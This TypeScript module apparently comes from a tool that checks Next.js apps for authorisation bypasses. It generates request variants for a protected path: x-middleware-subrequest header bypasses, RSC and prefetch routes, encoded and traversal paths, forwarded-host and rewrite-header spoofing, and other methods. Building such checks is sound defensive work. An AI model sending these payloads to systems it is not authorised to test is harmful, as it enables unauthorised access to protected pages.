import type { RawRequest } from "./raw-request.ts";

export type Variant = (path: string) => RawRequest;

const SKIP = "x-middleware-subrequest";
const get =
  (headers: Record<string, string>, change: (path: string) => string = (path) => path): Variant =>
  (path) => ({ path: change(path), headers });
const at = (change: (path: string) => string): Variant => get({}, change);
const method =
  (name: string): Variant =>
  (path) => ({
    method: name,
    path,
    headers: { "sec-fetch-site": "same-origin", "content-type": "text/plain" },
    body: "x",
  });

/** The same page asked for in every way that has once gone past somebody's check, by the kind of way. */
export const KINDS: Record<string, readonly Variant[]> = {
  plainly: [get({})],
  "as React's payload": [
    get({ rsc: "1" }),
    at((path) => `${path}.rsc`),
    at((path) => `${path}?_rsc=x`),
    get({ rsc: "1" }, (path) => `${path}?_rsc=1abcd`),
    get({ "next-url": "/feed", rsc: "1" }),
  ],
  "ahead of time": [
    get({ rsc: "1", "next-router-prefetch": "1" }),
    get({ rsc: "1", "next-router-prefetch": "2" }),
    get({ rsc: "1", "next-router-segment-prefetch": "/_tree" }),
    get({ rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/__PAGE__" }),
    at((path) => `${path}.segments/_tree.segment.rsc`),
    at((path) => `${path}.segments/_index.segment.rsc`),
    at((path) => `${path}.prefetch.rsc`),
  ],
  "as data": [at((path) => `/_next/data/build${path}.json`), get({ "x-nextjs-data": "1" })],
  "past the proxy": [
    get({ [SKIP]: "middleware" }),
    get({ [SKIP]: "src/middleware" }),
    get({ [SKIP]: Array(5).fill("middleware").join(":") }),
    get({ [SKIP]: Array(5).fill("src/middleware").join(":") }),
    get({ [SKIP]: Array(5).fill("proxy").join(":") }),
    get({ [SKIP]: Array(5).fill("middleware").join(":"), rsc: "1" }),
    get({ "x-middleware-next": "1", "x-middleware-rewrite": "/feed" }),
  ],
  "with slashes more": [
    at((path) => `/${path}`),
    at((path) => path.replaceAll(/(?<=.)\//g, "//")),
    at((path) => `${path}/`),
  ],
  encoded: [
    at((path) => `/${path.slice(1).replaceAll("/", "%2f")}`),
    at((path) => `/%2f${path.slice(1)}`),
    at((path) => `/${encodeURIComponent(path.slice(1, 2))}%${hexAt(path, 2)}${path.slice(3)}`),
    at((path) => `${path}%00`),
  ],
  "by a way round": [
    at((path) => `/.${path}`),
    at((path) => `/x/..${path}`),
    at((path) => `/x/%2e%2e${path}`),
    at((path) => `/sign-in/..%2f${path.slice(1)}`),
    at((path) => `/_next/static/..${path}`),
    at((path) => `/api/health/../..${path}`),
    at((path) => `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`),
  ],
  "spelt otherwise": [
    at((path) => path.toUpperCase()),
    at((path) => `/en${path}`),
    at((path) => `${path};a=b`),
  ],
  "under another address": [
    get({ "x-forwarded-host": "evil.example", "x-forwarded-proto": "https" }),
    (path) => ({ path: "/", headers: { "x-original-url": path, "x-rewrite-url": path } }),
    (path) => ({
      path: "/",
      headers: { "x-invoke-path": path, "x-matched-path": path, "x-invoke-status": "200" },
    }),
  ],
  "by another method": ["HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"].map(method),
};

/** Kinds of asking that change which code answers, beside those that change what an address looks like. */
export const WAYS_IN = ["plainly", "as React's payload", "ahead of time", "as data", "past the proxy"];

/** Each path in every variant, or in one of every kind: another one for each path, so that all are used in their turn. */
export function inVariants(
  paths: readonly string[],
  { isWhole, kinds = Object.keys(KINDS) }: { isWhole: boolean; kinds?: readonly string[] | undefined },
): RawRequest[] {
  return paths.flatMap((path, place) =>
    kinds
      .map((kind) => KINDS[kind] ?? [])
      .flatMap((kind) => (isWhole ? kind : [kind[place % kind.length] as Variant]))
      .map((variant) => variant(path)),
  );
}

function hexAt(path: string, place: number): string {
  return (path.charCodeAt(place) || 0x2f).toString(16);
}
